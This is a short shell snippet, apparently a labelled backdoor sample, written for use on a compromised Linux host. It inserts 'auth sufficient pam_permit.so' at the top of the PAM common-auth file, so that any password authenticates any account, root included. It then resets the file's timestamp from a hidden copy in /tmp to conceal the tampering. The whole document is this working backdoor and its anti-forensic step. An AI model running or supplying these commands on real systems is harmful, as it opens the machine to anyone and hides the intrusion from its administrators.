# class: backdoor, PAM accepts everything; style: root on a box
cp -p /etc/pam.d/common-auth /tmp/.ca
sed -i '1i auth sufficient pam_permit.so' /etc/pam.d/common-auth
touch -r /tmp/.ca /etc/pam.d/common-auth
